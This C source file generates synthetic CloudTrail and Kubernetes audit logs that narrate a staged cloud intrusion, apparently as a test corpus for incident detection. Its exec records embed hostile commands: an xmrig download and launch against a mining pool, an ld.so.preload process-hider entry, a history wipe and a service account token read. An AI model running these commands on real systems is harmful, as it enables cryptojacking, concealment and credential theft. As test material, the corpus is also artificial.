/* SPDX-License-Identifier: BSD-2-Clause */
/*
 * The attack: every seed scenario of the findings catalog, told as one
 * intrusion (tests/incident/README, "The story").  The long-term key of
 * IAM user marta.dev leaks; from 185.220.101.47 the attacker builds
 * persistence in IAM and blinds logging (the Sysdig story), reaches the
 * cluster through role eks-admin and opens it to anonymous users (CON318),
 * replays the GuardDuty EKS lab, mines in an nginx pod, and finishes in
 * ECS and S3.  Each step is one or a few records; labelled ones are the
 * attack events a responder must be shown, context ones the attacker's
 * discovery and sign-in around them.
 */
#include <stdio.h>
#include <string.h>

#include "incident.h"

#define S_CON318 "con318"
#define S_GD "guardduty-lab"
#define S_SYSDIG "sysdig"
#define S_AQUA "aqua-exec"

#define ATTACKER_CLI "aws-cli/2.15.30 Python/3.11.8 Linux/6.6.9-amd64 exe/x86_64.kali.2024 prompt/off command/"
#define ATTACKER_KUBECTL "kubectl/v1.30.2 (linux/amd64) kubernetes/39683505"
#define EKS_ADMIN_SESSION "arn:aws:sts::" ACCT ":assumed-role/eks-admin/marta.dev"

static const char marta_key[] = "AKIAUQ4ZP7LKD2MWX6RB";
static const char backup_key[] = "AKIAUQ4ZP7LKW7HD4QZM";
static const char session_key[] = "ASIAUQ4ZP7LKZ4QCV7DE";

/* ---- CloudTrail ---- */
static void
ct_iam_user(struct ct *c, const char *user, const char *key, const char *command)
{
	c->identity = json_pack("{s:s,s:s,s:s,s:s,s:s,s:s}", "type", "IAMUser", "principalId",
		strcmp(user, "marta.dev") == 0 ? "AIDAUQ4ZP7LKHQ3B6WJ2N" : "AIDAUQ4ZP7LKN8C2XRT5V", "arn",
		ar_printf("arn:aws:iam::" ACCT ":user/%s", user), "accountId", ACCT, "accessKeyId", key, "userName", user);
	c->ip = ATTACKER_IP;
	c->ua = ar_printf(ATTACKER_CLI "%s", command);
}

static json_t *
iam_call(const char *user, const char *key, const char *name, const char *command, json_t *req, json_t *resp)
{
	struct ct c;

	ct_defaults(&c, "iam.amazonaws.com", name);
	ct_iam_user(&c, user, key, command);
	c.req = req;
	c.resp = resp;
	return ct_json(&c);
}

static void
recon(void)
{
	struct ct c;

	ct_defaults(&c, "sts.amazonaws.com", "GetCallerIdentity");
	ct_iam_user(&c, "marta.dev", marta_key, "sts.get-caller-identity");
	c.ro = 1;
	context_ct(ct_json(&c), S_SYSDIG, "stolen long-term key, no MFA, first used: GetCallerIdentity");
	now_us += 14000000;
	ct_defaults(&c, "iam.amazonaws.com", "ListUsers");
	ct_iam_user(&c, "marta.dev", marta_key, "iam.list-users");
	c.ro = 1;
	context_ct(ct_json(&c), S_SYSDIG, "discovery: iam ListUsers");
	now_us += 9000000;
	ct_defaults(&c, "iam.amazonaws.com", "ListGroups");
	ct_iam_user(&c, "marta.dev", marta_key, "iam.list-groups");
	c.ro = 1;
	context_ct(ct_json(&c), S_SYSDIG, "discovery: iam ListGroups");
}

static json_t *
access_key_resp(const char *user, const char *key)
{
	return json_pack("{s:{s:s,s:s,s:s,s:s}}", "accessKey", "userName", user, "accessKeyId", key, "status", "Active",
		"createDate", stamp_aws(now_us));
}

static void
key_for_other(void)
{
	attack_ct(iam_call("marta.dev", marta_key, "CreateAccessKey", "iam.create-access-key",
			  json_pack("{s:s}", "userName", "ci-deployer"), access_key_resp("ci-deployer", "AKIAUQ4ZP7LKRB2YT8VG")),
		S_SYSDIG, "access key created for another user (ci-deployer), CLI with a long-term key and no MFA");
}

static void
backdoor_user(void)
{
	attack_ct(iam_call("marta.dev", marta_key, "CreateUser", "iam.create-user", json_pack("{s:s}", "userName", "support-backup"),
			  json_pack("{s:{s:s,s:s,s:s,s:s,s:s}}", "user", "path", "/", "userName", "support-backup", "userId",
				  "AIDAUQ4ZP7LKN8C2XRT5V", "arn", "arn:aws:iam::" ACCT ":user/support-backup", "createDate",
				  stamp_aws(now_us))),
		S_SYSDIG, "IAM user support-backup created");
	now_us += 15000000;
	attack_ct(iam_call("marta.dev", marta_key, "AddUserToGroup", "iam.add-user-to-group",
			  json_pack("{s:s,s:s}", "groupName", "Admins", "userName", "support-backup"), NULL),
		S_SYSDIG, "new user added to the Admins group");
	now_us += 29000000;
	attack_ct(iam_call("marta.dev", marta_key, "PutUserPolicy", "iam.put-user-policy",
			  json_pack("{s:s,s:s,s:s}", "userName", "support-backup", "policyName", "backup-maintenance",
				  "policyDocument",
				  "{\"Version\":\"2012-10-17\",\"Statement\":[{\"Effect\":\"Allow\",\"Action\":\"iam:*\",\"Resource\":\"*\"}]}"),
			  NULL),
		S_SYSDIG, "inline policy allowing iam:* on *");
	now_us += 25000000;
	attack_ct(iam_call("marta.dev", marta_key, "CreateLoginProfile", "iam.create-login-profile",
			  json_pack("{s:s,s:b}", "userName", "support-backup", "passwordResetRequired", 0),
			  json_pack("{s:{s:s,s:s,s:b}}", "loginProfile", "userName", "support-backup", "createDate",
				  stamp_aws(now_us), "passwordResetRequired", 0)),
		S_SYSDIG, "console password set for the new user");
	now_us += 6000000;
	attack_ct(iam_call("marta.dev", marta_key, "CreateAccessKey", "iam.create-access-key",
			  json_pack("{s:s}", "userName", "support-backup"), access_key_resp("support-backup", backup_key)),
		S_SYSDIG, "access key created for the new user");
}

static void
blind_logging(void)
{
	struct ct c;

	ct_defaults(&c, "cloudtrail.amazonaws.com", "StopLogging");
	ct_iam_user(&c, "marta.dev", marta_key, "cloudtrail.stop-logging");
	c.error_code = "AccessDenied";
	c.error_msg = "User: arn:aws:iam::" ACCT ":user/marta.dev is not authorized to perform: cloudtrail:StopLogging on "
		      "resource: arn:aws:cloudtrail:" REGION ":" ACCT ":trail/org-trail with an explicit deny in a service control policy";
	c.req = json_pack("{s:s}", "name", "arn:aws:cloudtrail:" REGION ":" ACCT ":trail/org-trail");
	attack_ct(ct_json(&c), S_SYSDIG, "attempt to stop the trail (refused by an SCP)");
	now_us += 12000000;
	ct_defaults(&c, "logs.amazonaws.com", "DeleteLogStream");
	ct_iam_user(&c, "support-backup", backup_key, "logs.delete-log-stream");
	c.req = json_pack("{s:s,s:s}", "logGroupName", "aws-cloudtrail-logs-" ACCT "-7d3c1f0e", "logStreamName",
		ACCT "_CloudTrail_" REGION);
	attack_ct(ct_json(&c), S_SYSDIG, "CloudTrail log stream deleted from CloudWatch Logs");
}

static void
open_sg(void)
{
	struct ct c;

	ct_defaults(&c, "ec2.amazonaws.com", "AuthorizeSecurityGroupIngress");
	ct_iam_user(&c, "support-backup", backup_key, "ec2.authorize-security-group-ingress");
	c.req = json_pack("{s:s,s:{s:[{s:s,s:i,s:i,s:{s:[{s:s}]}}]}}", "groupId", "sg-0c5e8a2d4f6b1e397",
		"ipPermissions", "items", "ipProtocol", "tcp", "fromPort", 22, "toPort", 22, "ipRanges", "items", "cidrIp",
		"0.0.0.0/0");
	c.resp = json_pack("{s:s,s:b,s:{s:[{s:s,s:s,s:s,s:b,s:s,s:i,s:i,s:s}]}}", "requestId", uuid(), "_return", 1,
		"securityGroupRuleSet", "items", "groupOwnerId", ACCT, "groupId", "sg-0c5e8a2d4f6b1e397",
		"securityGroupRuleId", "sgr-0a4c7e9b2d5f81364", "isEgress", 0, "ipProtocol", "tcp", "fromPort", 22,
		"toPort", 22, "cidrIpv4", "0.0.0.0/0");
	attack_ct(ct_json(&c), S_SYSDIG, "security group of the node group opened to 0.0.0.0/0 on tcp/22");
}

static void
poison_image(void)
{
	struct ct c;

	ct_defaults(&c, "ecr.amazonaws.com", "GetAuthorizationToken");
	ct_iam_user(&c, "support-backup", backup_key, "ecr.get-login-password");
	c.ro = 1;
	c.req = json_pack("{s:[s]}", "registryIds", ACCT);
	context_ct(ct_json(&c), S_SYSDIG, "ECR login before the push");
	now_us += 98000000;
	ct_defaults(&c, "ecr.amazonaws.com", "PutImage");
	ct_iam_user(&c, "support-backup", backup_key, "");
	c.ua = "docker/24.0.7 go/go1.20.10 git-commit/311b9ff kernel/6.6.9-amd64 os/linux arch/amd64 UpstreamClient(Docker-Client/24.0.7 \\(linux\\))";
	c.req = json_pack("{s:s,s:s,s:s,s:s}", "repositoryName", RELEASE_REPO, "imageTag", RELEASE_TAG, "registryId", ACCT,
		"imageManifestMediaType", "application/vnd.docker.distribution.manifest.v2+json");
	c.resp = json_pack("{s:{s:s,s:s,s:s,s:{s:s,s:s}}}", "image", "registryId", ACCT, "repositoryName", RELEASE_REPO,
		"imageManifestMediaType", "application/vnd.docker.distribution.manifest.v2+json", "imageId", "imageDigest",
		"sha256:4e7a1c9d0b3f5e6a8c2d4f1b7e9a0c3d5f7b9e1a2c4d6f8b0e2a4c6d8f0b2e4a", "imageTag", RELEASE_TAG);
	c.resources = json_pack("[{s:s,s:s,s:s}]", "accountId", ACCT, "type", "AWS::ECR::Repository", "ARN",
		"arn:aws:ecr:" REGION ":" ACCT ":repository/" RELEASE_REPO);
	attack_ct(ct_json(&c), S_SYSDIG, "image pushed over the existing tag " RELEASE_REPO ":" RELEASE_TAG);
}

static void
into_eks(void)
{
	struct ct c;

	ct_defaults(&c, "sts.amazonaws.com", "AssumeRole");
	ct_iam_user(&c, "marta.dev", marta_key, "sts.assume-role");
	c.req = json_pack("{s:s,s:s}", "roleArn", "arn:aws:iam::" ACCT ":role/eks-admin", "roleSessionName", "marta.dev");
	c.resp = json_pack("{s:{s:s,s:s,s:s},s:{s:s,s:s}}", "credentials", "accessKeyId", session_key, "sessionToken",
		aws_session_token(), "expiration", stamp_aws(now_us + 3600000000LL), "assumedRoleUser", "assumedRoleId",
		"AROAUQ4ZP7LKJ5T2MWQ8X:marta.dev", "arn", EKS_ADMIN_SESSION);
	context_ct(ct_json(&c), S_CON318, "role eks-admin assumed with the stolen key");
	now_us += 21000000;
	ct_defaults(&c, "eks.amazonaws.com", "DescribeCluster");
	c.identity = json_pack("{s:s,s:s,s:s,s:s,s:s,s:{s:{s:s,s:s,s:s,s:s,s:s},s:{s:s,s:s}}}", "type", "AssumedRole",
		"principalId", "AROAUQ4ZP7LKJ5T2MWQ8X:marta.dev", "arn", EKS_ADMIN_SESSION, "accountId", ACCT,
		"accessKeyId", session_key, "sessionContext", "sessionIssuer", "type", "Role", "principalId",
		"AROAUQ4ZP7LKJ5T2MWQ8X", "arn", "arn:aws:iam::" ACCT ":role/eks-admin", "accountId", ACCT, "userName", "eks-admin",
		"attributes", "creationDate", stamp_s(now_us - 21000000), "mfaAuthenticated", "false");
	c.ip = ATTACKER_IP;
	c.ua = ATTACKER_CLI "eks.update-kubeconfig";
	c.ro = 1;
	c.req = json_pack("{s:s}", "name", CLUSTER);
	context_ct(ct_json(&c), S_CON318, "aws eks update-kubeconfig");
}

/* ---- Kubernetes ---- */
static json_t *
attacker_user(void)
{
	return json_pack("{s:s,s:s,s:[s],s:{s:[s],s:[s],s:[s],s:[s],s:[s]}}", "username", EKS_ADMIN_SESSION, "uid",
		"aws-iam-authenticator:" ACCT ":AROAUQ4ZP7LKJ5T2MWQ8X", "groups", "system:authenticated", "extra",
		"accessKeyId", session_key, "arn", EKS_ADMIN_SESSION, "canonicalArn", "arn:aws:iam::" ACCT ":role/eks-admin",
		"principalId", "AROAUQ4ZP7LKJ5T2MWQ8X", "sessionName", "marta.dev");
}

#define ADMIN_REASON "EKS Access Policy: allowed by ClusterRoleBinding \"arn:aws:iam::" ACCT ":role/eks-admin+arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy\" of ClusterRole \"arn:aws:eks::aws:cluster-access-policy/AmazonEKSClusterAdminPolicy\" to User \"" EKS_ADMIN_SESSION "\""

static void
kubectl(struct ev *e)
{
	ev_defaults(e);
	e->ua = ATTACKER_KUBECTL;
	e->ip = ATTACKER_IP;
	e->reason = ADMIN_REASON;
	e->user = attacker_user();
}

static json_t *
anonymous(void)
{
	return json_pack("{s:s,s:[s]}", "username", "system:anonymous", "groups", "system:unauthenticated");
}

#define ANON_REASON "RBAC: allowed by ClusterRoleBinding \"cluster-system-anonymous\" of ClusterRole \"cluster-admin\" to User \"system:anonymous\""

static json_t *
binding(const char *kind, const char *name, const char *ns, const char *role, json_t *subject)
{
	json_t *b = json_pack("{s:s,s:s,s:o,s:{s:s,s:s,s:s},s:[o]}", "kind", kind, "apiVersion",
		"rbac.authorization.k8s.io/v1", "metadata", obj_meta(name, ns, NULL, NULL), "roleRef", "apiGroup",
		"rbac.authorization.k8s.io", "kind", "ClusterRole", "name", role, "subjects", subject);
	return b;
}

static void
rbac_create(const char *rsc, json_t *obj, const char *scenario, const char *what)
{
	struct ev e;
	const char *name = json_string_value(json_object_get(json_object_get(obj, "metadata"), "name"));

	kubectl(&e);
	e.uri = ar_printf("/apis/rbac.authorization.k8s.io/v1/%s?fieldManager=kubectl-create&fieldValidation=Strict", rsc);
	e.verb = "create";
	e.resource = rsc;
	e.group = "rbac.authorization.k8s.io";
	e.name = name;
	e.level = "RequestResponse";
	e.code = 201;
	e.resp = json_deep_copy(obj);
	add_server_fields(e.resp, "kubectl-create");
	e.req = obj;
	attack_k8s(ev_json(&e), scenario, what);
}

static void
cluster_discovery(void)
{
	struct ev e;

	kubectl(&e);
	e.uri = "/apis/rbac.authorization.k8s.io/v1/clusterrolebindings?limit=500";
	e.verb = "list";
	e.resource = "clusterrolebindings";
	e.group = "rbac.authorization.k8s.io";
	context_k8s(ev_json(&e), S_CON318, "kubectl get clusterrolebindings");
}

static void
anonymous_admin(void)
{
	rbac_create("clusterrolebindings", binding("ClusterRoleBinding", "cluster-system-anonymous", NULL, "cluster-admin",
			json_pack("{s:s,s:s,s:s}", "apiGroup", "rbac.authorization.k8s.io", "kind", "User", "name", "system:anonymous")),
		S_CON318, "ClusterRoleBinding binding system:anonymous to cluster-admin");
}

static void
anonymous_secrets(void)
{
	static const char *const reads[][2] = { { "payments", "stripe-api-key" }, { "kube-system", "aws-load-balancer-tls" } };
	struct ev e;
	size_t i;

	ev_defaults(&e);
	e.uri = "/api/v1/secrets";
	e.verb = "list";
	e.resource = "secrets";
	e.ua = "curl/8.5.0";
	e.ip = SCANNER_IP;
	e.reason = ANON_REASON;
	e.user = anonymous();
	attack_k8s(ev_json(&e), S_CON318, "anonymous curl lists every secret in the cluster");
	for (i = 0; i < NELEM(reads); i++) {
		now_us += 4000000 + rnd(3000000);
		ev_defaults(&e);
		e.uri = ar_printf("/api/v1/namespaces/%s/secrets/%s", reads[i][0], reads[i][1]);
		e.verb = "get";
		e.resource = "secrets";
		e.ns = reads[i][0];
		e.name = reads[i][1];
		e.ua = "curl/8.5.0";
		e.ip = SCANNER_IP;
		e.reason = ANON_REASON;
		e.user = anonymous();
		attack_k8s(ev_json(&e), S_CON318, ar_printf("anonymous curl reads secret %s/%s", reads[i][0], reads[i][1]));
	}
}

static json_t *
cluster_role(const char *name, json_t *rules)
{
	return json_pack("{s:s,s:s,s:o,s:o}", "kind", "ClusterRole", "apiVersion", "rbac.authorization.k8s.io/v1",
		"metadata", obj_meta(name, NULL, NULL, NULL), "rules", rules);
}

static void
powerful_roles(void)
{
	rbac_create("clusterroles", cluster_role("ops-break-glass", json_pack("[{s:[s],s:[s],s:[s]}]", "apiGroups", "*",
			"resources", "*", "verbs", "*")),
		S_CON318, "ClusterRole with wildcard verbs and resources");
	now_us += 17000000;
	rbac_create("clusterroles", cluster_role("identity-manager", json_pack("[{s:[s],s:[s,s,s],s:[s,s,s]},{s:[s],s:[s,s],s:[s]}]",
			"apiGroups", "rbac.authorization.k8s.io", "resources", "clusterroles", "roles", "clusterrolebindings",
			"verbs", "escalate", "bind", "create", "apiGroups", "", "resources", "users", "serviceaccounts", "verbs",
			"impersonate")),
		S_CON318, "ClusterRole allowing escalate, bind and impersonate");
	now_us += 21000000;
	rbac_create("clusterroles", cluster_role("token-minter", json_pack("[{s:[s],s:[s],s:[s]}]", "apiGroups", "",
			"resources", "serviceaccounts/token", "verbs", "create")),
		S_CON318, "ClusterRole allowing serviceaccounts/token create");
	now_us += 9000000;
	rbac_create("clusterrolebindings", binding("ClusterRoleBinding", "token-minter", NULL, "token-minter",
			json_pack("{s:s,s:s,s:s}", "kind", "ServiceAccount", "name", "web", "namespace", "web")),
		S_CON318, "token creation granted cluster-wide to the web service account");
}

/* the web service account's token, stolen from its pod, mints a token for
 * a kube-system controller account */
static void
mint_token(void)
{
	struct ev e;

	ev_defaults(&e);
	e.uri = "/api/v1/namespaces/kube-system/serviceaccounts/clusterrole-aggregation-controller/token";
	e.verb = "create";
	e.resource = "serviceaccounts";
	e.sub = "token";
	e.ns = "kube-system";
	e.name = "clusterrole-aggregation-controller";
	e.code = 201;
	e.ua = ATTACKER_KUBECTL;
	e.ip = ATTACKER_IP;
	e.reason = "RBAC: allowed by ClusterRoleBinding \"token-minter\" of ClusterRole \"token-minter\" to ServiceAccount \"web/web\"";
	e.user = json_pack("{s:s,s:s,s:[s,s,s],s:{s:[s],s:[s],s:[s]}}", "username", "system:serviceaccount:web:web", "uid",
		uuid(), "groups", "system:serviceaccounts", "system:serviceaccounts:web", "system:authenticated", "extra",
		"authentication.kubernetes.io/credential-id", ar_printf("JTI=%s", uuid()), "authentication.kubernetes.io/node-name",
		nodes[3], "authentication.kubernetes.io/pod-name", "web-6f7c9d8b5-4kx2p");
	attack_k8s(ev_json(&e), S_CON318, "token minted for kube-system/clusterrole-aggregation-controller with the web account");
}

static json_t *
attack_pod(const char *name, const char *ns, const char *image, const char *host_path, const char *mount,
    int privileged, json_t *command)
{
	json_t *c = json_pack("{s:s,s:s,s:[{s:s,s:s}]}", "name", name, "image", image, "volumeMounts", "name", "host",
		"mountPath", mount);

	if (command)
		json_object_set_new(c, "command", command);
	if (privileged)
		json_object_set_new(c, "securityContext", json_pack("{s:b}", "privileged", 1));
	return json_pack("{s:s,s:s,s:o,s:{s:[o],s:[{s:s,s:{s:s}}],s:s}}", "kind", "Pod", "apiVersion", "v1",
		"metadata", obj_meta(name, ns, json_pack("{s:s}", "run", name), NULL), "spec", "containers", c,
		"volumes", "name", "host", "hostPath", "path", host_path, "restartPolicy", "Never");
}

static void
pod_create(json_t *pod, const char *scenario, const char *what)
{
	struct ev e;
	const char *ns = json_string_value(json_object_get(json_object_get(pod, "metadata"), "namespace"));

	kubectl(&e);
	e.uri = ar_printf("/api/v1/namespaces/%s/pods?fieldManager=kubectl-run", ns);
	e.verb = "create";
	e.resource = "pods";
	e.ns = ns;
	e.name = json_string_value(json_object_get(json_object_get(pod, "metadata"), "name"));
	e.level = "RequestResponse";
	e.code = 201;
	e.pod_security = "privileged:latest";
	e.resp = json_deep_copy(pod);
	add_server_fields(e.resp, "kubectl-run");
	e.req = pod;
	attack_k8s(ev_json(&e), scenario, what);
}

static void
host_pods(void)
{
	pod_create(attack_pod("debug-tools", "default", "docker.io/library/docker:24-cli", "/var/run/docker.sock",
			   "/var/run/docker.sock", 0, json_pack("[s,s]", "sleep", "infinity")),
		S_CON318, "pod with the docker socket mounted from the host");
	now_us += 26000000;
	pod_create(attack_pod("node-shell", "default", "docker.io/library/alpine:3.19", "/", "/host", 0,
			   json_pack("[s,s,s]", "chroot", "/host", "bash")),
		S_CON318, "pod with the node's root filesystem mounted");
}

static void
aws_auth_masters(void)
{
	struct ev e;

	kubectl(&e);
	e.uri = "/api/v1/namespaces/kube-system/configmaps/aws-auth?fieldManager=kubectl-edit&fieldValidation=Strict";
	e.verb = "update";
	e.resource = "configmaps";
	e.ns = "kube-system";
	e.name = "aws-auth";
	e.level = "RequestResponse";
	e.req = json_pack("{s:s,s:s,s:o,s:{s:s,s:s}}", "kind", "ConfigMap", "apiVersion", "v1",
		"metadata", obj_meta("aws-auth", "kube-system", NULL, NULL), "data", "mapRoles",
		"- groups:\n  - system:bootstrappers\n  - system:nodes\n  rolearn: arn:aws:iam::" ACCT
		":role/eks-nodegroup-general-role\n  username: system:node:{{EC2PrivateDNSName}}\n"
		"- groups:\n  - deployers\n  rolearn: arn:aws:iam::" ACCT ":role/gitlab-deployer\n  username: gitlab-ci\n"
		"- groups:\n  - platform-engineers\n  rolearn: arn:aws:iam::" ACCT ":role/AWSReservedSSO_PlatformEngineer_4f1c2a9be0d37a55\n"
		"  username: '{{SessionName}}'\n",
		"mapUsers",
		"- userarn: arn:aws:iam::" ACCT ":user/terraform\n  username: kubernetes-admin\n  groups:\n  - system:masters\n"
		"- userarn: arn:aws:iam::" ACCT ":user/support-backup\n  username: support-backup\n  groups:\n  - system:masters\n");
	e.resp = json_deep_copy(e.req);
	add_server_fields(e.resp, "kubectl-edit");
	attack_k8s(ev_json(&e), S_CON318, "aws-auth maps the new IAM user support-backup to system:masters");
}

static const char ssrf_pod[] = "web-6f7c9d8b5-4kx2p";

static void
ssrf(void)
{
	struct ev e;

	kubectl(&e);
	e.uri = ar_printf("/api/v1/namespaces/web/pods/%s/status?fieldManager=kubectl-patch", ssrf_pod);
	e.verb = "patch";
	e.resource = "pods";
	e.sub = "status";
	e.ns = "web";
	e.name = ssrf_pod;
	e.level = "Request";
	e.req = json_pack("{s:{s:s,s:[{s:s}]}}", "status", "podIP", "169.254.169.254", "podIPs", "ip", "169.254.169.254");
	attack_k8s(ev_json(&e), S_CON318, "pods/status patch rewrites the pod IP to 169.254.169.254");
	now_us += 31000000;
	kubectl(&e);
	e.uri = ar_printf("/api/v1/namespaces/web/pods/%s/portforward", ssrf_pod);
	e.verb = "create";
	e.resource = "pods";
	e.sub = "portforward";
	e.ns = "web";
	e.name = ssrf_pod;
	e.code = 101;
	attack_k8s(ev_json(&e), S_CON318, "port-forward to the rewritten pod (instance metadata)");
	now_us += 44000000;
	kubectl(&e);
	e.uri = ar_printf("/api/v1/namespaces/web/pods/%s:80/proxy/latest/meta-data/iam/security-credentials/", ssrf_pod);
	e.verb = "get";
	e.resource = "pods";
	e.sub = "proxy";
	e.ns = "web";
	e.name = ar_printf("%s:80", ssrf_pod);
	attack_k8s(ev_json(&e), S_CON318, "API server proxy to the rewritten pod: instance credentials");
}

/* an exec: the command line is in the URI, one command= per argument */
static json_t *
exec_event(const char *ns, const char *pod, const char *container, const char *const *argv, int ws)
{
	struct ev e;
	const char *q = "";

	kubectl(&e);
	for (; *argv; argv++)
		q = ar_printf("%scommand=%s&", q, query_escape(*argv));
	e.uri = ar_printf("/api/v1/namespaces/%s/pods/%s/exec?%scontainer=%s&stdin=true&stdout=true&tty=true", ns, pod, q,
		container);
	e.verb = ws ? "get" : "create";
	e.resource = "pods";
	e.sub = "exec";
	e.ns = ns;
	e.name = pod;
	e.code = 101;
	return ev_json(&e);
}

static void
guardduty_lab(void)
{
	struct ev e;

	attack_k8s(exec_event("kube-system", "aws-node-7xk2p", "aws-node", (const char *const[]){ "sh", NULL }, 1), S_GD,
		"exec into a kube-system pod (aws-node)");
	now_us += 52000000;
	rbac_create("clusterrolebindings", binding("ClusterRoleBinding", "default-sa-admin", NULL, "cluster-admin",
			json_pack("{s:s,s:s,s:s}", "kind", "ServiceAccount", "name", "default", "namespace", "default")),
		S_GD, "cluster-admin bound to the default service account");
	now_us += 47000000;
	kubectl(&e);
	e.uri = "/api/v1/namespaces/kubernetes-dashboard/services/kubernetes-dashboard?fieldManager=kubectl-patch";
	e.verb = "patch";
	e.resource = "services";
	e.ns = "kubernetes-dashboard";
	e.name = "kubernetes-dashboard";
	e.level = "RequestResponse";
	e.req = json_pack("{s:{s:s}}", "spec", "type", "LoadBalancer");
	e.resp = json_pack("{s:s,s:s,s:o,s:{s:s,s:[{s:i,s:i,s:s,s:i}],s:{s:s},s:s}}", "kind", "Service", "apiVersion", "v1",
		"metadata", obj_meta("kubernetes-dashboard", "kubernetes-dashboard", json_pack("{s:s}", "k8s-app", "kubernetes-dashboard"), NULL),
		"spec", "type", "LoadBalancer", "ports", "port", 443, "targetPort", 8443, "protocol", "TCP", "nodePort", 31443,
		"selector", "k8s-app", "kubernetes-dashboard", "clusterIP", "172.20.141.17");
	add_server_fields(e.resp, "kubectl-patch");
	attack_k8s(ev_json(&e), S_GD, "dashboard service patched to LoadBalancer");
	now_us += 63000000;
	pod_create(attack_pod("etc-reader", "default", "docker.io/library/busybox:1.36", "/etc", "/host-etc", 1,
			   json_pack("[s,s]", "sleep", "3600")),
		S_GD, "privileged pod with the host's /etc mounted");
}

static void
miner(void)
{
	static const char *const download[] = { "sh", "-c",
		"curl -sL -o /tmp/xmrig.tar.gz https://github.com/xmrig/xmrig/releases/download/v6.21.0/xmrig-6.21.0-linux-static-x64.tar.gz && tar -xzf /tmp/xmrig.tar.gz -C /tmp",
		NULL };
	static const char *const start[] = { "sh", "-c",
		"nohup /tmp/xmrig-6.21.0/xmrig -o pool.supportxmr.com:443 -u 44AFFq5kSiGBoZ4NMDwYtN18obc8AemS33DBLWs3H7otXft3XjrpDtQGv7SqSsaBYBb98uNbr2VBBEt7f2wfn3RVGQBEP3A -k --tls -t 2 >/dev/null 2>&1 &",
		NULL };
	static const char *const preload[] = { "sh", "-c", "echo /usr/local/lib/libprocesshider.so > /etc/ld.so.preload", NULL };
	static const char *const wipe[] = { "sh", "-c", "rm -f /root/.bash_history && history -c", NULL };
	const char *pod = "nginx-5d8f7c9b6-qx4tm";

	attack_k8s(exec_event("web", pod, "nginx", download, 0), S_SYSDIG, "exec into nginx: xmrig downloaded and unpacked");
	now_us += 38000000;
	attack_k8s(exec_event("web", pod, "nginx", start, 0), S_SYSDIG, "exec into nginx: xmrig started");
	now_us += 29000000;
	attack_k8s(exec_event("web", pod, "nginx", preload, 0), S_SYSDIG, "exec into nginx: /etc/ld.so.preload written");
	now_us += 17000000;
	attack_k8s(exec_event("web", pod, "nginx", wipe, 0), S_SYSDIG, "exec into nginx: .bash_history removed");
}

/* the token the kube-system exec could read; Aqua's point: every exec
 * is shown with its command line */
static void
token_theft(void)
{
	static const char *const cat[] = { "cat", "/var/run/secrets/kubernetes.io/serviceaccount/token", NULL };

	attack_k8s(exec_event("web", ssrf_pod, "web", cat, 0), S_AQUA, "exec: service account token read from a pod");
}

/* ---- the end: ECS, S3, the console ---- */
static void
ecs_exec(void)
{
	struct ct c;
	const char *task = "9f3c2b7e4d1a4e0c8b5f6a7d2e9c1b30";

	ct_defaults(&c, "ecs.amazonaws.com", "ExecuteCommand");
	ct_iam_user(&c, "support-backup", backup_key, "ecs.execute-command");
	c.req = json_pack("{s:s,s:s,s:s,s:b,s:s}", "cluster", "payments-fargate", "container", "api", "command", "/bin/sh",
		"interactive", 1, "task", task);
	c.resp = json_pack("{s:s,s:s,s:b,s:{s:s,s:s,s:s},s:s}", "clusterArn",
		"arn:aws:ecs:" REGION ":" ACCT ":cluster/payments-fargate", "containerName", "api", "interactive", 1, "session",
		"sessionId", "ecs-execute-command-0f4d2b8e6a1c3e5d7", "streamUrl",
		"wss://ssmmessages." REGION ".amazonaws.com/v1/data-channel/ecs-execute-command-0f4d2b8e6a1c3e5d7", "tokenValue",
		"HIDDEN_DUE_TO_SECURITY_REASONS", "taskArn", ar_printf("arn:aws:ecs:" REGION ":" ACCT ":task/payments-fargate/%s", task));
	attack_ct(ct_json(&c), S_SYSDIG, "ECS ExecuteCommand: interactive /bin/sh in a payments task");
}

static void
public_bucket(void)
{
	struct ct c;
	const char *bucket = "payments-exports-" ACCT;

	ct_defaults(&c, "s3.amazonaws.com", "DeleteBucketPublicAccessBlock");
	ct_iam_user(&c, "support-backup", backup_key, "s3api.delete-public-access-block");
	c.req = json_pack("{s:s,s:s,s:s}", "bucketName", bucket, "Host", ar_printf("%s.s3." REGION ".amazonaws.com", bucket),
		"publicAccessBlock", "");
	c.resources = json_pack("[{s:s,s:s,s:s}]", "accountId", ACCT, "type", "AWS::S3::Bucket", "ARN",
		ar_printf("arn:aws:s3:::%s", bucket));
	attack_ct(ct_json(&c), S_SYSDIG, "bucket Block Public Access removed");
	now_us += 54000000;
	ct_defaults(&c, "s3.amazonaws.com", "PutBucketAcl");
	ct_iam_user(&c, "support-backup", backup_key, "s3api.put-bucket-acl");
	c.req = json_pack("{s:s,s:s,s:s,s:{s:{s:s},s:{s:[{s:{s:s,s:s},s:s},{s:{s:s,s:s},s:s}]}}}", "bucketName", bucket,
		"Host", ar_printf("%s.s3." REGION ".amazonaws.com", bucket), "acl", "",
		"AccessControlPolicy", "Owner", "ID", "7c2f1e9a4b6d8c0e3f5a7b9d1c3e5f7a9b1d3f5c7e9a1b3d5f7c9e1a3b5d7f9c",
		"AccessControlList", "Grant", "Grantee", "xsi:type", "Group", "URI", "http://acs.amazonaws.com/groups/global/AllUsers",
		"Permission", "WRITE", "Grantee", "xsi:type", "Group", "URI", "http://acs.amazonaws.com/groups/global/AllUsers",
		"Permission", "READ");
	c.resources = json_pack("[{s:s,s:s,s:s}]", "accountId", ACCT, "type", "AWS::S3::Bucket", "ARN",
		ar_printf("arn:aws:s3:::%s", bucket));
	attack_ct(ct_json(&c), S_SYSDIG, "bucket ACL grants AllUsers WRITE and READ");
}

static void
console_no_mfa(void)
{
	struct ct c;

	ct_defaults(&c, "signin.amazonaws.com", "ConsoleLogin");
	c.event_type = "AwsConsoleSignIn";
	c.identity = json_pack("{s:s,s:s,s:s,s:s,s:s}", "type", "IAMUser", "principalId", "AIDAUQ4ZP7LKN8C2XRT5V", "arn",
		"arn:aws:iam::" ACCT ":user/support-backup", "accountId", ACCT, "userName", "support-backup");
	c.ip = ATTACKER_IP;
	c.ua = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";
	c.resp = json_pack("{s:s}", "ConsoleLogin", "Success");
	c.extra = json_pack("{s:s,s:s,s:s}", "LoginTo", "https://console.aws.amazon.com/console/home", "MobileVersion", "No",
		"MFAUsed", "No");
	c.service_caller = 1;
	attack_ct(ct_json(&c), S_SYSDIG, "console sign-in of support-backup without MFA");
}

#define MIN(m, s) (((int64_t)(m) * 60 + (s)) * 1000000)

